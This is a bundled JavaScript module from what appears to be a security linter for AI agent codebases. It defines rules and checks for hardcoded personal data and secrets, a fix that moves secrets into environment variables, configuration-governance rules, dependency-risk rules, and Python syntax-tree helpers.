// Generated from src/ by `npm run bundle` (scripts/bundle.mjs). Do not edit.
import { c as redactPii, i as redactSecret, n as SECRET_DETECTORS, s as scanShippedPii, t as scanSecrets } from "./chunk-scan.js";
import { t as sha256Hex } from "./chunk-hash.js";
import { i as currentRuleId, n as RENAMED_RULE_IDS, o as formerPatternRules, t as FORMER_PREFIXES } from "./chunk-renamed-ids.js";
import { t as parseSource } from "./chunk-parse.js";
import path from "node:path";
// src/rules/pii/hardcoded-pii.ts
var PII_RULES = {
	"credit-card": {
		title: "Hardcoded payment card number",
		noun: "Payment card number",
		description: "A Luhn-valid card number with a real issuer prefix is written into code, a prompt or config that ships. Card data in source breaks PCI DSS scope and can be echoed back by the model.",
		tags: ["CWE-359", "CWE-312"]
	},
	"us-ssn": {
		title: "Hardcoded US Social Security number",
		noun: "US Social Security number",
		description: "A well-formed US Social Security number is written into code, a prompt or config that ships. It identifies a person and is a key to identity fraud.",
		tags: ["CWE-359"]
	},
	iban: {
		title: "Hardcoded IBAN",
		noun: "IBAN",
		description: "A checksum-valid International Bank Account Number is written into code, a prompt or config that ships. The bank details of a person are personal data under GDPR.",
		tags: ["CWE-359"]
	},
	"phone-number": {
		title: "Hardcoded personal phone number",
		noun: "Personal phone number",
		description: "A phone number next to personal context (customer, patient, contact) is written into code, a prompt or config that ships; a model that sees it in its prompt can repeat it to any user. Helplines, offices and toll-free numbers belong to organisations and stay silent.",
		tags: ["CWE-359"]
	},
	"personal-email": {
		title: "Hardcoded personal email address",
		noun: "Personal email address",
		description: "A personal email address (a consumer mail provider, or personal context nearby) is written into code, a prompt or config that ships; a model that sees it in its prompt can repeat it to any user.",
		tags: ["CWE-359"]
	}
};
var REMEDIATION$1 = "Remove the personal data from source and prompts. Load real records at runtime from the system that owns them, pass the model only the fields it needs (redacted or tokenised), and use clearly fake values (example.com, published test card numbers) in fixtures.";
function piiRuleId(kind) {
	return `pii/${kind}`;
}
var hardcodedPiiCheck = {
	rules: Object.keys(PII_RULES).map((kind) => ({
		id: piiRuleId(kind),
		title: PII_RULES[kind].title,
		description: PII_RULES[kind].description,
		persona: "secops",
		category: "pii",
		severity: "error",
		fixability: "structural",
		tags: [
			"security",
			"privacy",
			...PII_RULES[kind].tags,
			"LLM02:2025"
		],
		remediation: REMEDIATION$1,
		precision: kind === "phone-number" || kind === "personal-email" ? "medium" : "high",
		securitySeverity: 7.5
	})),
	run(context) {
		const { file } = context;
		for (const match of scanShippedPii(file.text, file.path, context.codeKind)) {
			const redacted = redactPii(match.kind, match.value);
			context.report({
				ruleId: piiRuleId(match.kind),
				start: match.start,
				end: match.end,
				message: `${PII_RULES[match.kind].noun} hardcoded: ${redacted}`,
				fingerprintContent: sha256Hex(match.value),
				sensitive: {
					start: match.start,
					end: match.end,
					replacement: redacted
				}
			});
		}
	}
};
// src/heal/secret-to-env.ts
/**
* Swaps a hardcoded secret for an environment lookup (`os.environ["NAME"]`, `process.env.NAME`) and
* adds `NAME=` to the agent's `.env.example`. Only when the secret is a whole string literal in
* Python, TypeScript or JavaScript; anything else (a key inside a longer string, a .env file) needs
* a person: rotate the key and move it out by hand.
*/
var PROVIDER_ENV_NAMES = [
	[/^openai/, "OPENAI_API_KEY"],
	[/^anthropic/, "ANTHROPIC_API_KEY"],
	[/^(google-api-key|gemini)/, "GOOGLE_API_KEY"],
	[/^hugging-?face/, "HF_TOKEN"],
	[/^groq/, "GROQ_API_KEY"],
	[/^xai/, "XAI_API_KEY"],
	[/^perplexity/, "PERPLEXITY_API_KEY"],
	[/^replicate/, "REPLICATE_API_TOKEN"],
	[/^mistral/, "MISTRAL_API_KEY"],
	[/^cohere/, "COHERE_API_KEY"],
	[/^pinecone/, "PINECONE_API_KEY"],
	[/^lang(smith|chain)/, "LANGSMITH_API_KEY"],
	[/^tavily/, "TAVILY_API_KEY"],
	[/^github/, "GITHUB_TOKEN"],
	[/^gitlab/, "GITLAB_TOKEN"],
	[/^slack-webhook/, "SLACK_WEBHOOK_URL"],
	[/^slack/, "SLACK_BOT_TOKEN"],
	[/^stripe/, "STRIPE_SECRET_KEY"],
	[/^sendgrid/, "SENDGRID_API_KEY"],
	[/^aws-access-key/, "AWS_ACCESS_KEY_ID"],
	[/^aws-secret/, "AWS_SECRET_ACCESS_KEY"],
	[/^npm/, "NPM_TOKEN"],
	[/^pypi/, "PYPI_TOKEN"],
	[/^telegram/, "TELEGRAM_BOT_TOKEN"],
	[/^(database-url|postgres|mysql|mongodb|redis)/, "DATABASE_URL"]
];
var ENV_NAME = /^[A-Z][A-Z0-9_]*$/;
/** `NAME = "`, `api_key="`, `apiKey: "`, `const token = "` just before the literal. */
var ASSIGNED_NAME = /([A-Za-z_][\w]*)["']?\s*(?::\s*[\w[\]|. ]+)?\s*[:=]\s*$/;
function envNameFor(detectorId, assignedName) {
	if (assignedName && ENV_NAME.test(assignedName) && assignedName.length > 2) return assignedName;
	for (const [pattern, name] of PROVIDER_ENV_NAMES) if (pattern.test(detectorId)) return name;
	if (assignedName) return assignedName.replace(/([a-z0-9])([A-Z])/g, "$1_$2").toUpperCase();
	return detectorId.replace(/-/g, "_").toUpperCase();
}
function secretToEnvFix(file, start, end, detectorId) {
	if (file.language === "other") return void 0;
	const text = file.text;
	const quote = text[start - 1];
	if (quote !== "\"" && quote !== "'" && quote !== "`" || text[end] !== quote) return void 0;
	if (text[start - 2] === quote) return void 0;
	const before = text[start - 2] ?? "";
	if (file.language === "python" && /[A-Za-z]/.test(before)) return void 0;
	if (quote === "`" && file.language === "python") return void 0;
	const lineStart = text.lastIndexOf("\n", start - 1) + 1;
	const assigned = ASSIGNED_NAME.exec(text.slice(lineStart, start - 1))?.[1];
	const name = envNameFor(detectorId, assigned);
	const replacement = file.language === "python" ? `os.environ["${name}"]` : `process.env.${name}`;
	return {
		description: `read ${name} from the environment`,
		edits: [{
			start: start - 1,
			end: end + 1,
			text: replacement
		}],
		...file.language === "python" ? { pythonImports: [{ module: "os" }] } : {},
		ensureLines: [{
			file: path.posix.join(".env.example"),
			line: `${name}=`
		}],
		env: {
			name,
			secretDigest: sha256Hex(text.slice(start, end))
		}
	};
}
// src/rules/secret/hardcoded-secret.ts
var REMEDIATION = "Treat the credential as leaked: revoke and rotate it at the provider (git history keeps it). Read it at runtime from the environment or a secret manager instead: os.environ[\"NAME\"] in Python, process.env.NAME in TypeScript, and commit only a .env.example with an empty value.";
function secretRuleId(detectorId) {
	return `secret/${detectorId}`;
}
function ruleFor(detector) {
	return {
		id: secretRuleId(detector.id),
		title: `Hardcoded ${detector.title}`,
		description: `${detector.description} A credential in source is readable by everyone with access to the repository, its forks, CI logs and history, and an agent that holds it can be driven to use it.`,
		persona: "secops",
		category: "secret",
		severity: "error",
		fixability: "one-click",
		tags: [
			"security",
			"secret",
			"CWE-798",
			"LLM02:2025",
			"ASI03"
		],
		remediation: detector.remediation ?? REMEDIATION,
		precision: detector.id.startsWith("generic") ? "medium" : "high",
		securitySeverity: 9
	};
}
var detectorsById = new Map(SECRET_DETECTORS.map((detector) => [detector.id, detector]));
/** One check, one text pass per file, one SARIF rule per credential format. */
var hardcodedSecretCheck = {
	rules: SECRET_DETECTORS.map(ruleFor),
	run(context) {
		const { file } = context;
		const sentinelsLikely = context.codeKind === "test" || context.codeKind === "fixture" || context.codeKind === "docs";
		for (const match of scanSecrets(file.text, file.path, { structuredOnly: sentinelsLikely })) {
			const detector = detectorsById.get(match.detectorId);
			const redacted = redactSecret(match.secret);
			const fix = match.joinedPieces ? void 0 : secretToEnvFix(file, match.start, match.end, match.detectorId);
			const split = match.joinedPieces ? ` (split over ${match.joinedPieces} concatenated strings)` : "";
			context.report({
				ruleId: secretRuleId(match.detectorId),
				start: match.start,
				end: match.end,
				message: `${detector?.title ?? "Secret"} hardcoded: ${redacted}${split}`,
				fingerprintContent: sha256Hex(match.secret),
				sensitive: {
					start: match.start,
					end: match.end,
					replacement: redacted
				},
				fixability: fix ? "one-click" : "structural",
				...fix ? { fix } : {}
			});
		}
	}
};
// src/rules/policy/locked-setting.ts
/**
* Reported by the engine, not by a file check: an agent's cockpit.yaml tried to loosen a setting the
* root cockpit.yaml locks. The attempt is overruled; the finding makes it visible in review.
*/
var LOCKED_SETTING_RULE = {
	id: "policy/locked-setting-loosened",
	title: "Agent configuration loosens a locked fleet setting",
	description: "An agent's cockpit.yaml tries to loosen a setting that the workspace root locks (for example turning off the secrets gate). The root policy still applies; the attempt is reported so it is seen in review rather than silently ignored.",
	persona: "governance",
	category: "policy",
	severity: "error",
	fixability: "structural",
	tags: ["governance", "CWE-284"],
	remediation: "Remove the setting from the agent cockpit.yaml, or agree a change to the fleet policy in the root cockpit.yaml.",
	precision: "very-high"
};
// src/rules/policy/suppression-rules.ts
/**
* Reported by the engine over the agent's findings (audit/suppression-diagnostics.ts), not by a file check: inline
* suppressions that do not do what they say. ESLint reports unused disable directives
* (--report-unused-disable-directives) and ruff has RUF100 (unused noqa); these are the cockpit's counterparts.
*/
var INVALID_SUPPRESSION_RULE = {
	id: "policy/invalid-suppression",
	title: "Inline suppression that is not honoured",
	description: "A `cockpit: ignore[...]` comment the engine does not honour: it names a rule that does not exist (a typo), names no rule, uses `ignore[*]` (a blanket suppression, never honoured), or gives no reason after the `]`. Whatever it was meant to silence still counts, while a reader of the code believes it is silenced.",
	persona: "governance",
	category: "policy",
	severity: "warning",
	fixability: "structural",
	tags: ["governance"],
	remediation: "Name the rule ids the finding shows (`ops rules` lists them; `category/*` for a whole category) and say why after the brackets, e.g. `# cockpit: ignore[secret/jwt] expired token from a recorded fixture`.",
	precision: "very-high"
};
var UNUSED_SUPPRESSION_RULE = {
	id: "policy/unused-suppression",
	title: "Inline suppression with nothing to silence",
	description: "A valid `cockpit: ignore[...]` comment, but no finding of the rules it names is reported on its line or the next: the code was fixed, the rule is off, or the comment sits on the wrong line. A stale suppression silences the next real finding there without review.",
	persona: "governance",
	category: "policy",
	severity: "note",
	fixability: "structural",
	tags: ["governance"],
	remediation: "Remove the comment, or move it onto the finding's line or the line before it.",
	precision: "high"
};
// src/rules/options.ts
/** Why `configured` does not fit the rule's options (one line, naming the option), or undefined when it does. */
function ruleOptionsProblem(meta, configured, z) {
	const known = meta.options ?? [];
	for (const [name, value] of Object.entries(configured)) {
		const option = known.find((candidate) => candidate.name === name);
		if (!option) {
			const names = known.map((candidate) => candidate.name);
			return {
				option: name,
				message: names.length === 0 ? `rule ${meta.id} takes no options` : `rule ${meta.id} has no option '${name}' (its options: ${names.join(", ")})`
			};
		}
		const parsed = option.schema(z).safeParse(value);
		if (!parsed.success) {
			const issue = parsed.error.issues[0];
			const where = issue && issue.path.length > 0 ? ` at ${issue.path.join(".")}` : "";
			return {
				option: name,
				message: `option '${name}' of rule ${meta.id}: ${issue?.message ?? "invalid value"}${where}`
			};
		}
	}
}
var resolved$1 = /* @__PURE__ */ new WeakMap();
var NONE = Object.freeze({});
/** The rule's defaults with the configured values on top (validated at load), memoised per configured object. */
function resolveRuleOptions(meta, configured) {
	const key = configured ?? NONE;
	let byConfigured = resolved$1.get(meta);
	if (!byConfigured) resolved$1.set(meta, byConfigured = /* @__PURE__ */ new WeakMap());
	let options = byConfigured.get(key);
	if (!options) {
		options = Object.freeze({
			...Object.fromEntries((meta.options ?? []).map((option) => [option.name, option.default])),
			...configured
		});
		byConfigured.set(key, options);
	}
	return options;
}
// src/rules/define.ts
function defineRule(meta, body) {
	const appliesTo = ruleApplies(body);
	const run = "runOnTree" in body ? onTree(body) : body.run;
	return {
		rules: [meta],
		...appliesTo ? { appliesTo } : {},
		run(context) {
			return run({
				file: context.file,
				codeKind: context.codeKind,
				tree: context.tree,
				heal: context.heal,
				...context.agentFiles ? { agentFiles: context.agentFiles } : {},
				meta,
				options: resolveRuleOptions(meta, context.ruleOptions?.get(meta.id)),
				report: (finding) => context.report({
					...finding,
					ruleId: meta.id
				})
			});
		}
	};
}
/** The body's file test and text prefilters as one test; only code has a tree, so a tree rule reads nothing else. */
function ruleApplies(body) {
	const { appliesTo, textHas = [], textLacks = [] } = body;
	const codeOnly = "runOnTree" in body;
	if (!codeOnly && textHas.length === 0 && textLacks.length === 0) return appliesTo;
	return (file) => (!codeOnly || file.language !== "other") && (appliesTo?.(file) ?? true) && textHas.every((pattern) => pattern.test(file.text)) && !textLacks.some((pattern) => pattern.test(file.text));
}
function onTree(body) {
	return async (context) => {
		const tree = await context.tree();
		if (tree) await body.runOnTree(context, tree);
	};
}
// src/rules/policy/renamed-rule-id.ts
/**
* A rule named by a former id (rules/renamed-ids.ts): in a `cockpit: ignore[...]` comment (reported by
* audit/suppression-diagnostics.ts) or as a key of cockpit.yaml `rules:` (the check below). The old id still works;
* the note says which id to write, once where it is written, and never blocks by default.
*/
var RENAMED_RULE_ID_RULE = {
	id: "policy/renamed-rule-id",
	title: "Rule named by its former id",
	description: "A `cockpit: ignore[...]` comment or a cockpit.yaml `rules:` key names a rule by an id it had before it was renamed. The former id still works: the suppression still silences the rule, the setting still applies, and baselines and triage decisions still match. Writing the current id keeps the code, the configuration and the reports naming the rule the same way.",
	persona: "governance",
	category: "policy",
	severity: "note",
	fixability: "structural",
	tags: ["governance"],
	remediation: "Replace the former id with the one the message names (`ops rules FORMER-ID` shows the rule under its current id).",
	precision: "very-high"
};
function renamedRuleIdMessage(formerId, currentId, where) {
	return `${where} names '${formerId}', the former id of ${currentId}: it still works, but write ${currentId}.`;
}
/** What `governance/*` (a prefix no rule has any more) names now, as a note; undefined for any other text. */
function renamedPatternMessage(written, where) {
	const rules = formerPatternRules(written);
	if (!rules) return void 0;
	return `${where} names '${written}', the former prefix of ${rules.join(", ")}: it still covers them, but name them by their ids.`;
}
/** Text that may name a rule by a former id or prefix: the only files worth parsing. */
function mayNameFormerIds(text) {
	return [...RENAMED_RULE_IDS.keys()].some((id) => text.includes(id)) || [...FORMER_PREFIXES].some((prefix) => text.includes(`${prefix}/*`));
}
/** The fleet and agent files the config loader reads (config/file-names.ts; rules do not import config). */
var CONFIG_FILES$1 = /* @__PURE__ */ new Set(["cockpit.yaml", "cockpit.yml"]);
var renamedRuleIdCheck = defineRule(RENAMED_RULE_ID_RULE, {
	appliesTo: (file) => CONFIG_FILES$1.has(file.path),
	async run(context) {
		const { text } = context.file;
		if (!mayNameFormerIds(text)) return;
		const { isMap, isScalar, parseDocument } = await import("yaml");
		const rules = parseDocument(text, { uniqueKeys: false }).get("rules", true);
		if (!isMap(rules)) return;
		for (const { key } of rules.items) {
			if (!isScalar(key) || !key.range) continue;
			const formerId = String(key.value);
			const currentId = RENAMED_RULE_IDS.get(formerId);
			const where = "The cockpit.yaml `rules:` key";
			const message = currentId === void 0 ? renamedPatternMessage(formerId, where) : renamedRuleIdMessage(formerId, currentId, where);
			if (message === void 0) continue;
			context.report({
				start: key.range[0],
				end: key.range[1],
				message,
				fingerprintContent: formerId
			});
		}
	}
});
// src/rules/deps/rules.ts
/** Dependency rules read manifests and registry answers, not source files: the engine runs them per agent. */
var base = {
	category: "dependency",
	fixability: "structural"
};
var UNKNOWN_PACKAGE = {
	...base,
	id: "deps/unknown-package",
	title: "Dependency exists in no package index",
	description: "Every configured index (and, after a refusal, every public mirror) answered \"not found\" for this package. Code written with an AI assistant sometimes names packages that do not exist; an attacker who registers that name (slopsquatting) gets code execution on the next install. A typo of a popular name is the same risk.",
	persona: "secops",
	severity: "error",
	tags: [
		"security",
		"LLM03:2025",
		"CWE-1357",
		"CWE-829"
	],
	remediation: "Check the name against the package you meant (its index page and repository); fix the spelling, or remove the line. If it is a private package, make sure the private index is configured so the cockpit asks it.",
	precision: "high",
	securitySeverity: 8.1
};
var UNRESOLVED_PACKAGE = {
	...base,
	id: "deps/unresolved-package",
	title: "Dependency could not be checked in any index",
	description: "No index could say whether this package exists: an index refused, failed or answered a broken document and no mirror could answer in its place (or the name is private and never sent to one), or the run was offline and the cache had no answer. Without best-effort (`--resolve-best-effort`, cockpit.yaml `registries.best-effort`) such a run fails with exit 3 instead; offline cache misses are always notes. Nothing is known to be wrong; the other dependency rules could not look at it.",
	persona: "sre",
	severity: "note",
	tags: ["supply-chain"],
	remediation: "Run `ops diagnose` to see which index failed and why; configure credentials for the private index (pip.conf, .netrc, .npmrc) or add a mirror in cockpit.yaml `registries.mirrors`.",
	precision: "very-high"
};
var DEPENDENCY_CONFUSION_RISK = {
	...base,
	id: "deps/dependency-confusion-risk",
	title: "Dependency may resolve to a public package that is not the intended one",
	description: "Either the name matches one of the organisation's private name patterns (cockpit.yaml `registries.private`) and a public registry (pypi.org, registry.npmjs.org) has a package of that name where the installer looks, or a configured index refused, failed or answered a broken document for this package and the index that did answer does not offer the pinned or locked version. Both are the dependency-confusion shape: an installer that asks the public registry takes whatever is published there under the internal name.",
	persona: "secops",
	severity: "error",
	tags: [
		"security",
		"supply-chain",
		"LLM03:2025",
		"CWE-427",
		"CWE-829"
	],
	remediation: "Install private packages from the private index only: npm scope registries (`@acme:registry=`), pip `--index-url` to the private index (not `--extra-index-url` next to pypi.org) or uv `index-strategy = first-index`; give the cockpit credentials for the private index so it can check the real package; pin hashes (`--require-hashes`) or commit a lock file.",
	precision: "high",
	securitySeverity: 8.1
};
var UNPINNED_AGENT_PACKAGE = {
	...base,
	id: "deps/unpinned-agent-package",
	title: "Agent framework or model SDK without an upper version bound",
	description: "An agent framework or model SDK is declared with no version or with only a lower bound, and no lock file pins it. Agent frameworks change defaults (retries, tool calling, prompts, model names) between releases, so the next install can silently change how the agent behaves.",
	persona: "sre",
	severity: "warning",
	tags: [
		"reliability",
		"supply-chain",
		"CWE-1357"
	],
	remediation: "Pin an exact version (`==1.2.3`, `\"1.2.3\"`), or bound it (`~=1.2`, `^1.2.3`) and commit a lock file (uv.lock, poetry.lock, package-lock.json).",
	precision: "very-high"
};
var DEPRECATED_SDK = {
	...base,
	id: "deps/deprecated-sdk",
	title: "Deprecated SDK with a named successor",
	description: "The package is deprecated by its maintainer in favour of a successor: it gets no new models or features and, after its end-of-support date, no fixes.",
	persona: "architecture",
	severity: "warning",
	tags: ["reliability", "supply-chain"],
	remediation: "Migrate to the successor package named in the message (its migration guide lists the API changes), then remove the old dependency.",
	precision: "very-high"
};
var DANGEROUS_RELEASE = {
	...base,
	id: "deps/dangerous-release",
	title: "Framework release with a known-dangerous default or critical advisory",
	description: "The pinned or locked version of an agent framework is in the affected range of a published advisory, usually about a default that is unsafe for agents (deserialisation that reads secrets, servers without DNS-rebinding protection, code execution in tools).",
	persona: "secops",
	severity: "error",
	tags: [
		"security",
		"LLM03:2025",
		"CWE-1395"
	],
	remediation: "Upgrade to the fixed version named in the message (or later) and update the lock file.",
	precision: "high",
	securitySeverity: 8
};
var YANKED_RELEASE = {
	...base,
	id: "deps/yanked-release",
	title: "Pinned release was yanked from the index",
	description: "The exact version the agent pins or locks was yanked (PEP 592): its maintainers withdrew it, usually because it is broken or unsafe. pip still installs a yanked release when it is pinned exactly, so the problem stays hidden.",
	persona: "secops",
	severity: "error",
	tags: ["supply-chain", "CWE-1104"],
	remediation: "Move to a release that is not yanked (the next patch release, usually) and update the lock file.",
	precision: "very-high"
};
var DEPRECATED_RELEASE = {
	...base,
	id: "deps/deprecated-release",
	title: "Pinned npm release or package is deprecated",
	description: "The npm registry marks the version the agent uses (or the whole package) as deprecated, with a message from its maintainers.",
	persona: "sre",
	severity: "warning",
	tags: ["supply-chain", "CWE-1104"],
	remediation: "Follow the deprecation message: move to the version or package it names, and update the lock file.",
	precision: "very-high"
};
var MALFORMED_MANIFEST = {
	...base,
	id: "deps/malformed-manifest",
	title: "Manifest or lock file cannot be read",
	description: "A dependency manifest (requirements, pyproject.toml, package.json, a lock file) has a line the cockpit cannot parse, an include that is missing or leaves the agent, or invalid TOML/JSON. Installers fail or, worse, skip the entry; the other dependency rules cannot see it.",
	persona: "sre",
	severity: "warning",
	tags: ["reliability", "supply-chain"],
	remediation: "Fix the line the message names; `pip install -r` or `npm install --dry-run` shows the same error.",
	precision: "very-high"
};
var DEPENDENCY_RULES = [
	MALFORMED_MANIFEST,
	UNKNOWN_PACKAGE,
	UNRESOLVED_PACKAGE,
	DEPENDENCY_CONFUSION_RISK,
	UNPINNED_AGENT_PACKAGE,
	DEPRECATED_SDK,
	DANGEROUS_RELEASE,
	YANKED_RELEASE,
	DEPRECATED_RELEASE
];
// src/rules/ast/callee-name.ts
/**
* A callee longer than this is a chained expression (`a.b().c().d()…`), not a name any rule knows.
* Spelling each link of a long chain out in full costs O(n²) text and hung audits on 100k-link chains.
*/
var MAX_CALLEE_CHARS = 1024;
/** The callee as written with whitespace removed; a long chain keeps only its last member (`….invoke`). */
function compactCalleeText(target) {
	if (!target) return "";
	if (target.endIndex - target.startIndex > MAX_CALLEE_CHARS) {
		const member = target.childForFieldName("attribute") ?? target.childForFieldName("property");
		return member ? `….${member.text}` : "…";
	}
	return target.text.replace(/\s+/g, "");
}
/** Each call's callee as last resolved, with the import map it went through (one map per tree, memoised by each language). */
var resolvedCallees = /* @__PURE__ */ new WeakMap();
/** `resolve()`'s answer for this call and import map, worked out once: a dozen rules ask for every call. */
function resolvedCallee(call, imports, resolve) {
	const known = resolvedCallees.get(call);
	if (known?.imports === imports) return known.callee;
	const callee = resolve();
	resolvedCallees.set(call, {
		imports,
		callee
	});
	return callee;
}
// src/rules/ast/within.ts
/**
* The nodes of `types` below `root` (not `root` itself) that run where `root` does: none inside a node of a `stopAt`
* type below `root` (nested functions, lambdas and classes, whose code runs elsewhere); such a node itself counts.
*/
function descendantsInScope(root, types, stopAt) {
	return root.descendantsOfType(types).filter((node) => node.id !== root.id && !belowStop(node, root, stopAt));
}
function belowStop(node, root, stopAt) {
	for (let current = node.parent; current && current.id !== root.id; current = current.parent) if (stopAt.includes(current.type)) return true;
	return false;
}
// src/rules/ast/python.ts
var importMaps$1 = /* @__PURE__ */ new WeakMap();
/** Memoised per tree: most rules resolve names through the imports of the same file. */
function pythonImportMap(tree) {
	let names = importMaps$1.get(tree);
	if (!names) importMaps$1.set(tree, names = buildImportMap(tree));
	return names;
}
function buildImportMap(tree) {
	const names = /* @__PURE__ */ new Map();
	for (const statement of tree.rootNode.descendantsOfType(["import_statement", "import_from_statement"])) {
		if (statement.type === "import_statement") {
			for (const child of statement.namedChildren) if (child.type === "dotted_name") names.set(child.text.split(".")[0], child.text.split(".")[0]);
			else if (child.type === "aliased_import") {
				const name = child.childForFieldName("name")?.text;
				const alias = child.childForFieldName("alias")?.text;
				if (name && alias) names.set(alias, name);
			}
			continue;
		}
		const module = statement.childForFieldName("module_name")?.text ?? "";
		const join = (name) => module.endsWith(".") ? `${module}${name}` : `${module}.${name}`;
		for (const child of statement.childrenForFieldName("name")) if (child.type === "dotted_name") names.set(child.text, join(child.text));
		else if (child.type === "aliased_import") {
			const name = child.childForFieldName("name")?.text;
			const alias = child.childForFieldName("alias")?.text;
			if (name && alias) names.set(alias, join(name));
		}
	}
	return names;
}
/** The callee as written: `subprocess.run`, `Agent`, `client.chat.completions.create`. */
/**
* Thirty rules ask the same call the same questions. A tree hands out one object per node, so the
* answers are kept per node.
*/
var calleeTexts$1 = /* @__PURE__ */ new WeakMap();
var keywordArguments = /* @__PURE__ */ new WeakMap();
function calleeText(call) {
	let text = calleeTexts$1.get(call);
	if (text === void 0) {
		text = compactCalleeText(call.childForFieldName("function"));
		calleeTexts$1.set(call, text);
	}
	return text;
}
/** The callee resolved through imports: `sp.run` with `import subprocess as sp` → `subprocess.run`. */
function qualifiedCallee(call, imports) {
	return resolvedCallee(call, imports, () => {
		const written = calleeText(call);
		const dot = written.indexOf(".");
		const resolved = imports.get(dot === -1 ? written : written.slice(0, dot));
		return resolved ? dot === -1 ? resolved : resolved + written.slice(dot) : written;
	});
}
function calls(tree) {
	return ("rootNode" in tree ? tree.rootNode : tree).descendantsOfType("call");
}
function argumentList(call) {
	const args = call.childForFieldName("arguments");
	return args?.type === "argument_list" ? args : void 0;
}
/** The value node of `name=value` in a call, or undefined. */
function keywordArgument(call, name) {
	let byName = keywordArguments.get(call);
	if (!byName) {
		const map = /* @__PURE__ */ new Map();
		for (const child of argumentList(call)?.namedChildren ?? []) {
			if (child.type !== "keyword_argument") continue;
			const key = child.childForFieldName("name")?.text;
			if (key !== void 0 && !map.has(key)) map.set(key, child.childForFieldName("value") ?? void 0);
		}
		keywordArguments.set(call, byName = map);
	}
	return byName.get(name);
}
/** True when the call passes `**kwargs`: a missing keyword may be hidden inside it. */
function hasDictSplat(call) {
	return (argumentList(call)?.namedChildren ?? []).some((child) => child.type === "dictionary_splat");
}
function positionalArguments(call) {
	return (argumentList(call)?.namedChildren ?? []).filter((child) => child.type !== "keyword_argument" && child.type !== "dictionary_splat" && child.type !== "list_splat" && child.type !== "comment");
}
/** The value of a plain string literal (no f-string interpolation), else undefined. */
function stringValue(node) {
	if (!node || node.type !== "string") return void 0;
	if (node.namedChildren.some((child) => child.type === "interpolation")) return void 0;
	return node.namedChildren.filter((child) => child.type === "string_content").map((child) => child.text).join("");
}
function numberValue(node) {
	if (!node || node.type !== "integer" && node.type !== "float") return void 0;
	const value = Number(node.text.replace(/_/g, ""));
	return Number.isFinite(value) ? value : void 0;
}
/** The value of `key` in a dict literal `{"key": value}` or `dict(key=value)`. */
function dictValue(node, key) {
	if (!node) return void 0;
	if (node.type === "dictionary") {
		for (const pair of node.namedChildren) if (pair.type === "pair" && stringValue(pair.childForFieldName("key") ?? void 0) === key) return pair.childForFieldName("value") ?? void 0;
	}
	if (node.type === "call" && calleeText(node) === "dict") return keywordArgument(node, key);
}
/** The nearest enclosing function definition (decorated or not). */
function enclosingFunction(node) {
	for (let current = node.parent; current; current = current.parent) if (current.type === "function_definition") return current;
}
/** Decorator expressions of a function as written, without the `@`: `tool`, `retry(stop=...)`. */
function decoratorsOf(fn) {
	const parent = fn.parent;
	if (parent?.type !== "decorated_definition") return [];
	return parent.namedChildren.filter((child) => child.type === "decorator").map((decorator) => decorator.namedChildren[0]).filter(Boolean);
}
/** `tool`, `function_tool(...)`, `app.tool` → the decorator's name without call arguments. */
function decoratorName(decorator) {
	return (decorator.type === "call" ? decorator.childForFieldName("function") : decorator)?.text.replace(/\s+/g, "") ?? "";
}
/**
* Scopes and bindings: a name used inside a function means the module's import only when no parameter or
* local assignment of an enclosing function binds it (an `asyncio.Queue` parameter named `requests` is not
* the HTTP library). Class bodies and comprehensions are folded into the enclosing function, which errs
* towards "local", so a shadowed name is never taken for the import.
*/
var SCOPE_TYPES = /* @__PURE__ */ new Set(["function_definition", "lambda"]);
/** Nested functions, lambdas and classes: their bodies run elsewhere than the code around them. */
var PY_NESTED_SCOPES = [
	"function_definition",
	"lambda",
	"class_definition"
];
var localBindingMemo = /* @__PURE__ */ new WeakMap();
/** Names a function (or lambda) binds itself: parameters, assignment/loop/with/except targets, nested defs; not imports. */
function localBindings(scope) {
	let byScope = localBindingMemo.get(scope.tree);
	if (!byScope) localBindingMemo.set(scope.tree, byScope = /* @__PURE__ */ new Map());
	let names = byScope.get(scope.id);
	if (!names) byScope.set(scope.id, names = collectLocalBindings(scope));
	return names;
}
/** The nodes that can bind a name in a scope's body, and the nested scopes whose bodies are theirs, not its. */
var BINDING_NODE_TYPES = [
	...PY_NESTED_SCOPES,
	"global_statement",
	"nonlocal_statement",
	"assignment",
	"augmented_assignment",
	"for_statement",
	"for_in_clause",
	"named_expression",
	"as_pattern"
];
function collectLocalBindings(scope) {
	const names = /* @__PURE__ */ new Set();
	const declaredOutside = /* @__PURE__ */ new Set();
	for (const parameter of scope.childForFieldName("parameters")?.namedChildren ?? []) {
		const name = parameterName(parameter);
		if (name) names.add(name);
	}
	const body = scope.childForFieldName("body");
	if (!body) return names;
	for (const node of descendantsInScope(body, BINDING_NODE_TYPES, PY_NESTED_SCOPES)) switch (node.type) {
		case "function_definition":
		case "class_definition": {
			const name = node.childForFieldName("name")?.text;
			if (name) names.add(name);
			break;
		}
		case "global_statement":
		case "nonlocal_statement":
			for (const name of node.namedChildren) declaredOutside.add(name.text);
			break;
		case "assignment":
		case "augmented_assignment":
		case "for_statement":
		case "for_in_clause":
			for (const name of targetNames(node.childForFieldName("left"))) names.add(name);
			break;
		case "named_expression":
			for (const name of targetNames(node.childForFieldName("name"))) names.add(name);
			break;
		case "as_pattern": for (const name of targetNames(node.childForFieldName("alias"))) names.add(name);
	}
	for (const name of declaredOutside) names.delete(name);
	return names;
}
function parameterName(parameter) {
	if (parameter.type === "identifier") return parameter.text;
	if (parameter.type === "list_splat_pattern" || parameter.type === "dictionary_splat_pattern") return parameter.namedChildren[0]?.text;
	const named = parameter.childForFieldName("name");
	if (named) return parameterName(named);
	const first = parameter.namedChildren[0];
	return first ? parameterName(first) : void 0;
}
function targetNames(target) {
	if (!target) return [];
	if (target.type === "identifier") return [target.text];
	if ([
		"pattern_list",
		"tuple_pattern",
		"list_pattern",
		"as_pattern_target",
		"list_splat_pattern",
		"expression_list",
		"tuple",
		"list",
		"parenthesized_expression"
	].includes(target.type)) return target.namedChildren.flatMap(targetNames);
	return [];
}
/** The function or lambda scopes around `node`, innermost first. */
function enclosingScopes(node) {
	const scopes = [];
	for (let current = node.parent; current; current = current.parent) if (SCOPE_TYPES.has(current.type)) scopes.push(current);
	return scopes;
}
/** True when `name`, read at `node`, is a parameter or local variable of an enclosing function, not a module-level name. */
function isLocallyBound(node, name) {
	return enclosingScopes(node).some((scope) => localBindings(scope).has(name));
}
/**
* The callee resolved through imports, but only when its first name really is an import where the call
* stands: `requests.get` with `import requests` → `requests.get`; with no such import, or with a parameter
* or local variable named `requests` in scope, undefined. `self.requests.get` never resolves. With `wanted`,
* also undefined for a callee it rejects (checked before the scopes, which cost more).
*/
